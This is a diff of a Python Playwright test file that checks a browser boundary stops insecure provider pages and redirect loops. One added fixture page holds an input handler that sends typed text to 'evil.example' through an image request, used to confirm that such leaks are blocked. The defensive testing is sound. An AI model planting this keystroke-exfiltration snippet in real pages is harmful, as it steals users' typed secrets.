@@ -150,12 +150,23 @@ def test_the_right_name_at_the_wrong_door_is_not_entered(window: Page, web: Web,
     assert [seen.path for seen in web.seen if seen.host != FLOW_HOST] == []
 
 
-def test_a_plain_http_link_of_the_provider_is_followed_by_tls(window: Page, web: Web, opened: OpenBrowser) -> None:
+def test_a_page_of_the_provider_without_tls_is_never_shown(window: Page, web: Web, opened: OpenBrowser) -> None:
     web["/start"] = page(f"<a href='http://{FLOW_HOST}/next?a=1'>次へ</a>")
     window.goto(START)
-    window.click("a")
-    window.wait_for_url(f"https://{FLOW_HOST}/next?a=1")
-    assert opened.boundary.blocked == []
+    _leave(window, lambda: window.click("a"))
+    assert opened.boundary.stopped is not None
+    assert opened.boundary.stopped.reason is Stop.INSECURE
+    assert "/next" not in [seen.path for seen in web.seen]
+
+
+def test_a_script_cannot_send_what_was_typed_to_another_host(window: Page, web: Web, opened: OpenBrowser) -> None:
+    web["/start"] = page("<input id=p oninput=\"new Image().src='https://evil.example/?p='+this.value\">")
+    window.goto(START)
+    opened.boundary.hold_secrets()
+    window.fill("#p", "demo-secret")
+    window.wait_for_timeout(300)
+    opened.boundary.release_secrets()
+    assert [seen.host for seen in web.seen if seen.host != FLOW_HOST] == []
 
 
 @pytest.mark.parametrize("action", [f"http://{FLOW_HOST}/plain", f"https://{FLOW_HOST}/hop"])
@@ -177,7 +188,7 @@ def test_plain_http_on_the_flows_own_host_is_named_as_such() -> None:
 
 
 def test_a_redirect_without_end_ends(window: Page, web: Web, opened: OpenBrowser) -> None:
-    web["/start"] = redirect(f"http://{FLOW_HOST}/start")
+    web["/start"] = redirect(f"https://{FLOW_HOST}/start")
     with pytest.raises(PlaywrightError, match="ERR_TOO_MANY_REDIRECTS"):
         window.goto(START)
 
